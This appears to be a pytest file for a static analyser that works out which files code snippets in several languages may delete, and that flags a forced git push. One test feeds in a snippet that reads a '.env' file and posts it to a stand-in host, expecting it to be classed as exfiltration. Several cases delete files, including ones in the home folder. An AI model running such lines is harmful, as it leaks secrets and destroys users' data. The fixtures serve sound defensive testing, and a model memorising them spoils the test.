"""What a name may hold where it is used: every way a program may take, and lists that grow."""

import pytest

from classifiers.code import classify_code
from classifiers.context import Context

CASES = [
    # a branch that may not be taken
    ("python", "import os\nx='a'\nif q: x='b'\nos.remove(x)", {"a", "b"}),
    ("python", "import os\nx='a'\nif q: x='b'\nelse: os.remove(x)", {"a"}),
    ("python", "import os\nx='a'\nif True: x='b'\nos.remove(x)", {"b"}),
    ("python", "import os\nos.remove(('a' if q else 'b') + '.o')", {"a.o", "b.o"}),
    ("python", "import os, shutil\n(shutil.rmtree if q else os.remove)('a')", {"a"}),
    ("python", "import os\nx='a'\ntry: x=f()\nexcept E: x='c'\nos.remove(x)", {None}),
    ("python", "import os\nmatch q:\n  case 1: x='a'\n  case _: x='b'\nos.remove(x)", {"a", "b"}),
    ("javascript", "const fs=require('fs'); let x='a'; if(q){x='b'} fs.unlinkSync(x)", {"a", "b"}),
    ("javascript", "const fs=require('fs'); fs.unlinkSync(q ? 'a' : 'b')", {"a", "b"}),
    ("javascript", "const fs=require('fs'); let x='a'; try { x='b' } catch(e) { x='c' } fs.unlinkSync(x)", {"a", "b", "c"}),
    ("javascript", "const fs=require('fs'); let x; switch(q){case 1: x='a'; break; default: x='b'} fs.unlinkSync(x)", {"a", "b"}),
    ("ruby", "x='a'\nx='b' if q\nFile.delete(x)", {"a", "b"}),
    ("ruby", "case q\nwhen 1 then x='a'\nelse x='b'\nend\nFile.delete(x)", {"a", "b"}),
    ("ruby", "begin\nx='a'\nrescue\nx='b'\nend\nFile.delete(x)", {"a", "b"}),
    ("php", "$x='a'; if($q){$x='b';} unlink($x);", {"a", "b"}),
    ("perl", "my $x='a'; $x='b' if $q; unlink $x;", {"a", "b"}),
    ("lua", "local x='a' if q then x='b' end os.remove(x)", {"a", "b"}),
    # names of enclosing functions, of the whole program and of objects
    ("lua", "local y='a' pcall(function() y='b' end) os.remove(y)", {None}),
    ("lua", "function f() g='x' end f() os.remove(g)", {"x"}),
    ("lua", "local x, y = 'a', 'b' x, y = y, x os.remove(x)", {"b"}),
    ("ruby", "def f; $q='x'; end; f; File.delete($q)", {"x"}),
    ("ruby", "File.delete(File.join('a', '/srv/q'))", {"a/srv/q"}),
    ("php", "class A {public $p='a'; function go(){unlink($this->p);}} $o=new A; $o->p='b'; $o->go();", {None}),
    ("ruby", "z = 'a'; ['b'].each { |e| z << 'c' }; File.delete(z)", {None}),
    # a list that a loop fills is read again
    ("python", "import os\nl=['a']\nwhile q():\n  for f in l: os.remove(f)\n  l.append('b')", {"a", "b"}),
    ("ruby", "l = ['a']; 2.times { l.each { |e| File.delete(e) }; l << 'b' }", {"a", "b"}),
    # what stands last is given too
    ("ruby", "def f(a, b = 'q'); return a if a == 'a'; b; end; File.delete(f('x'))", {"x", "q"}),
    ("perl", "sub f { my ($a, $b) = @_; return $a if $q; $b } unlink f('x', 'y');", {"x", "y"}),
    # a loop comes again with what it left
    ("perl", "my ($x, $y) = ('a', 'b'); for my $e ($x, $y) { unlink $e; $y = 'c' }", {"a", "c"}),
    ("python", "import os\nx='a'\nwhile q:\n  os.remove(x)\n  x='b'", {"a", "b"}),
    ("python", "import os\nx='a'\nfor n in names:\n  os.remove(x)\n  x='b'", {"a", "b"}),
    ("python", "import os\nx='a'\nfor n in [1, 2]:\n  os.remove(x)\n  x='b'", {"a", "b"}),
    ("javascript", "const fs=require('fs'); let x='a'; while(q){ fs.unlinkSync(x); x='b' }", {"a", "b"}),
    ("javascript", "const fs=require('fs'); for(let i=0;i<3;i++){ fs.unlinkSync('a'+i) }", {"a0", None}),
    ("php", "$x='a'; while($q){ unlink($x); $x='b'; }", {"a", "b"}),
    ("lua", "local x='a' repeat os.remove(x) x='b' until q", {"a", "b"}),
    ("javascript", "const fs=require('fs'); do { fs.unlinkSync('a') } while (false)", {"a"}),
    # the opposite of a test
    ("javascript", "const fs=require('fs'); const x='q'; if (!x) fs.unlinkSync('a'); else fs.unlinkSync('b')", {"a", "b"}),
    ("ruby", "x='q'\nunless x\nFile.delete('a')\nelse\nFile.delete('b')\nend", {"a", "b"}),
    ("lua", "local x='q' if not x then os.remove('a') else os.remove('b') end", {"a", "b"}),
    ("php", "$x='q'; unlink(!$x ? 'a' : 'b');", {"a", "b"}),
    ("perl", "my $x='q'; unlink 'a' unless $x;", {"a"}),
    ("javascript", "const fs=require('fs'), path=require('path'); fs.unlinkSync(path.join('a', '/b'))", {"a/b"}),
    # a method of what is not known, or is one of several
    ("python", "import os\nos.remove(q.strip('/'))", {None}),
    ("python", "import os\nx='/a'\nif q: x='/b/'\nos.remove(x.strip('/') + x.lstrip('/'))", {"aa", "ab", "ba", "bb"}),
    ("python", "import os, functools\nfunctools.partial(os.remove, 'a' if q else 'b')()", {"a", "b"}),
    # every end of a function, and functions that call themselves
    ("python", "import os\ndef f():\n  if q: return 'a'\n  return 'b'\nos.remove(f())", {"a", "b"}),
    ("javascript", "const fs=require('fs'); const f=(q)=>{ if(q) return 'a'; return 'b' }; fs.unlinkSync(f())", {"a", "b"}),
    ("python", "import os\ndef go(d):\n  os.remove(d+'/x')\n  go(d+'/s')\ngo('r')", {"r/x", None}),
    ("python", "import os\nif q:\n  def f(): os.remove('a')\nelse:\n  def f(): os.remove('b')\nf()", {"a", "b"}),
    # whose method it is
    ("python", "import os\nclass A:\n  def run(self): os.remove('a')\nclass B:\n  def run(self): os.remove('b')\nA().run()", {"a"}),
    ("python", "import os\nclass A:\n  def run(self): os.remove('a')\nclass B:\n  def run(self): os.remove('b')\nfor s in [A(), B()]: s.run()", {"a", "b"}),
    ("python", "import os\nclass A:\n  def run(self): os.remove('a')\nclass B:\n  def run(self): os.remove('b')\n(A() if q else B()).run()", {"a", "b"}),
    ("python", "import os\nclass A:\n  def run(self): os.remove('a')\nclass B:\n  def run(self): os.remove('b')\ndef go(x): x.run()\ngo(unheard)", {"a", "b"}),
    ("python", "import os\nclass A:\n  def run(self): os.remove('a')\nclass B:\n  def run(self): os.remove('b')\nd={'k': B()}\nd['k'].run()", {"b"}),
    ("javascript", "const fs=require('fs'); class A{run(){fs.unlinkSync('a')}} class B{run(t){fs.unlinkSync(t)}} for (const s of [new A(), new B()]) s.run('b')", {"a", "b"}),
    ("ruby", "class A; def run; File.delete('a'); end; end\nclass B; def run; end; end\n[A.new, B.new].each { |s| s.run }", {"a"}),
    ("php", "class A{function run(){unlink('a');}} class B{function run(){}} foreach([new A, new B] as $s) $s->run();", {"a"}),
    ("python", "import os\nclass A: rm=os.remove\nA.rm('a')\nA().rm('b')", {"a", "b"}),
    # what an object inherits, or is given
    ("python", "import os\nclass B:\n  def __init__(self): os.remove('a')\nclass D(B): pass\nD()", {"a"}),
    ("python", "import os\nclass B:\n  def __enter__(self): os.remove('a')\nclass C(B): pass\nclass D(C): pass\nwith D(): pass", {"a"}),
    ("python", "import os\nclass B:\n  def __init__(self): os.remove('a')\nclass D(B):\n  def __init__(self): os.remove('b')\nD()", {"b"}),
    ("python", "import os\nclass A(A):\n  def __init__(self): os.remove('a')\nA()", {"a"}),
    ("ruby", "class B; def initialize; File.delete('a'); end; end\nclass D < B; end\nD.new", {"a"}),
    ("php", "class B{function __construct(){unlink('a');}} class D extends B{} new D;", {"a"}),
    ("javascript", "const fs=require('fs'); class B{ constructor(){ fs.rmSync('a') } } class D extends B{} new D()", {"a"}),
    ("javascript", "const fs=require('fs'); const o={ rm(){ fs.rmSync('a') } }; o.rm()", {"a"}),
    ("javascript", "const fs=require('fs'); function A(){ this.rm=function(){ fs.rmSync('a') } } new A().rm()", {"a"}),
    ("javascript", "const fs=require('fs'); function A(){} A.prototype.rm=function(){ fs.rmSync('a') }; new A().rm()", {"a"}),
    ("javascript", "global.process.mainModule.require('fs').rmSync('a')", {"a"}),
    ("ruby", "class B; def go; File.delete('a'); end; end\nclass D < B; def go; super; end; end\nD.new.go", {"a"}),
    ("ruby", "class A; class << self; def go; ::File.delete('a'); end; end; end\nA.go", {"a"}),
    ("perl", "sub f { unlink 'a' } f;", {"a"}),
    ("perl", "$x =~ /y(?{ unlink 'a' })/;", {"a"}),
    ("perl", "my ($x, $y, @z) = ('a', 'b', 'c'); unlink \"${x}$y\"; unlink @z;", {"ab", None}),
    ("perl", "for my $f (qw(a b)) { unlink $f }", {"a", "b"}),
    ("perl", "unlink sprintf('%s.%02d', 'a', 7);", {"a.07"}),
    ("perl", "unlink sprintf('%s.%s', 'a', $x);", {None}),
    ("ruby", "File.delete(format('%s.o', 'a'))", {"a.o"}),
    ("php", "unlink(sprintf('%s.o', 'a'));", {"a.o"}),
    ("perl", "$z = 'a'; $z = 'b' unless 0; unlink $z;", {"a", "b"}),
    ("perl", "unless (0) { unlink 'a' }", {"a"}),
    ("lua", "local t = setmetatable({}, {__gc = function() os.remove('a') end})", {"a"}),
    # functions that are decorated, kept in a table, or called back
    ("python", "import atexit, os\n@atexit.register\ndef bye(): os.remove('a')", {"a"}),
    ("python", "import os\nH={}\ndef named(n):\n  def keep(f):\n    H[n]=f\n    return f\n  return keep\n@named('k')\ndef f(): os.remove('a')\nH['k']()", {"a"}),
    ("python", "import os\nH=[]\ndef keep(f):\n  H.append(f)\n  return f\n@keep\ndef f(): os.remove('a')\n@keep\ndef g(): os.remove('b')\nfor h in H: h()", {"a", "b"}),
    ("python", "import functools, os\n@functools.lru_cache\ndef f(p): os.remove(p)\nf('a')", {"a"}),
    ("python", "import functools, os\n@functools.lru_cache\ndef f(p): os.remove(p)", set()),
    ("python", "import os\ndef add(n):\n  def put(p): os.remove(n + p)\n  return put\nadd('a')('b')", {"ab"}),
    ("python", "import os, shutil\n{'k': os.remove, 'j': shutil.rmtree}[q]('a')", {"a"}),
    ("javascript", "const fs=require('fs'); bus.on('done', f => fs.unlinkSync(f))", {None}),
    # lists and tables that grow
    ("python", "import os\nfs=[]\nfor n in ('a','b'):\n  fs.append(n+'.o')\nfor f in fs: os.remove(f)", {"a.o", "b.o"}),
    ("python", "import os\nfs=['a']\nfs.extend(['b'])\nfs += ['c']\nfs.insert(0, 'd')\nfor f in fs: os.remove(f)", {"a", "b", "c", "d"}),
    ("python", "import os\nfs=['a']\nfs.append('b')\nos.remove(fs[-1])", {"b"}),
    ("python", "import os\nfs=['a']\nif q: fs.append('b')\nos.remove(fs[-1])", {"a", "b"}),
    ("python", "import os\nd={'k': 'a'}\nd['k']='b'\nos.remove(d['k'])", {"b"}),
    ("python", "import os\nd={}\nd.setdefault('k','a')\nd.update(j='b')\nfor v in d.values(): os.remove(v)", {"a", "b"}),
    ("python", "import os\ndef add(l): l.append('a')\nfs=[]\nadd(fs)\nfor f in fs: os.remove(f)", {"a"}),
    ("python", "import os\nfs=[]\nfill(fs)\nfor f in fs: os.remove(f)", {None}),
    ("javascript", "const fs=require('fs'); const l=[]; for (const n of ['a']) l.push(n); l.forEach(f=>fs.unlinkSync(f))", {"a"}),
    ("javascript", "const fs=require('fs'); const o={}; o.k='a'; o['j']='b'; Object.values(o).forEach(f=>fs.unlinkSync(f))", {"a", "b"}),
    ("php", "$l=[]; $l[]='a'; array_push($l,'b'); foreach($l as $f) unlink($f);", {"a", "b"}),
    ("lua", "local l={} l[#l+1]='a' table.insert(l,'b') for _,f in ipairs(l) do os.remove(f) end", {"a", "b"}),
    # generators, and what grows by the turns of a loop
    ("python", "import os\ndef g():\n  yield 'a'\n  if q: yield 'b'\nfor p in g(): os.remove(p)", {"a", "b"}),
    ("python", "import os\ndef g(d):\n  yield d+'/x'\n  yield from h(d)\ndef h(d): yield d+'/y'\nfor p in g('r'): os.remove(p)", {"r/x", "r/y"}),
    ("python", "import contextlib, os\n@contextlib.contextmanager\ndef t():\n  yield 'a'\n  os.remove('b')\nwith t() as p: os.remove(p)", {"a", "b"}),
    ("javascript", "const fs=require('fs'); function* g(){ yield 'a'; yield* ['b'] } for (const p of g()) fs.unlinkSync(p)", {"a", "b"}),
    ("python", "import os\nn='a'\nwhile q:\n  os.remove(n)\n  n += 'x'", {"a", "ax", None}),
    ("python", "import os\ni=0\nwhile q:\n  os.remove(f'o{i}')\n  i += 1", {"o0", None}),
    ("python", "import os\ndef g():\n  n='a'\n  while True:\n    yield n\n    n += 'x'\nfor p in g(): os.remove(p)", {"a", "ax", None}),
    # every file of a list of arguments
    ("ruby", "File.delete('a', 'b', *fs)", {"a", "b", None}),
    ("ruby", "FileUtils.rm(['a', x])", {"a", None}),
    ("perl", "unlink 'a', 'b', 'c', 'd';", {"a", "b", "c", "d"}),
    ("perl", "use File::Path; remove_tree('d', 'e', {safe => 1});", {"d", "e"}),
    ("powershell", "Remove-Item a,$x,b", {"a", None, "b"}),
    # texts that change where they are
    ("ruby", "s=''; s << 'a' << '/b'; File.delete(s)", {"a/b"}),
    ("ruby", "l=[]; l << 'a' << 'b'; l.each { |f| File.delete f }", {"a", "b"}),
    ("ruby", "y='a'; y.sub!('a','b'); File.delete(y)", {None}),
    ("ruby", "@a='x'; @a << 'y'; File.delete(@a)", {None}),
    ("ruby", "File.delete(['a','b'].join)", {"ab"}),
    ("perl", "my $y='xab'; $y =~ s/x//; unlink $y", {None}),
    ("perl", "my $y='a'; (my $z=$y) =~ tr/a/b/; unlink $z", {None}),
    ("perl", "my $y='a'; if ($y =~ /a/) { unlink $y }", {"a"}),
    # functions of a table, own and the library's
    ("lua", "local A={} function A:rm() os.remove('a') end local o=setmetatable({},{__index=A}) o:rm()", {"a"}),
    ("lua", "local A={} A.rm=function() os.remove('a') end A.rm()", {"a"}),
    ("lua", "for _, f in pairs({k='a'}) do os.remove(f) end", {"a"}),
    ("lua", "for f in pairs({k='a'}) do os.remove(f) end", {None}),
    ("lua", "local A={} function A.remove(p) end os.remove('a')", {"a"}),
    ("javascript", "process.getBuiltinModule('fs').rmSync('a')", {"a"}),
    # Perl's sums, tables and methods
    ("perl", "$y='a'; $y .= 'b'; unlink($y);", {"ab"}),
    ("perl", "$y ||= 'b'; unlink($y);", {None}),
    ("perl", "my $h={k=>'v'}; unlink $h->{k};", {"v"}),
    ("perl", "f({a=>1, unlink 'q'});", {"q"}),
    ("perl", "package A; sub rm { unlink 'k' } package main; A->rm;", {"k"}),
    # the home folder
    ("javascript", "const fs=require('fs'), os=require('os'); fs.unlinkSync(os.homedir() + '/a')", {"~/a"}),
    ("ruby", "File.delete(Dir.home + '/a', File.join(Dir.home, 'b'))", {"~/a", "~/b"}),
]  # fmt: skip


@pytest.mark.parametrize(("language", "text", "expected"), CASES, ids=[f"{c[0]} {c[1][-60:]}" for c in CASES])
def test_every_way_is_told(language, text, expected):
    effects = classify_code(text, language, Context(max_ms=5_000)).effects
    assert {e.target for e in effects if e.action.value == "delete"} == expected


def test_a_command_that_may_have_one_more_word_is_read_with_it():
    text = "import subprocess\ncmd=['git','push']\nif q: cmd += ['--force']\ncmd.extend(['up','main'])\nsubprocess.run(cmd)"
    (effect,) = classify_code(text, "python").effects
    assert (effect.target, effect.destructive) == ("git:up#main", True)


def test_the_owner_and_the_group_are_no_files():
    for language, text in (("perl", "chown 0, 0, 'a', 'b';"), ("ruby", "File.chown(0, 0, 'a', 'b')")):
        assert [e.target for e in classify_code(text, language).effects] == ["a", "b"]


def test_a_secret_put_into_a_table_leaves_with_it():
    text = "import requests\nd={}\nd['k']=open('.env').read()\nrequests.post('https://a.example', json=d)"
    assert [f.kind.value for f in classify_code(text, "python").flows] == ["exfiltration"]
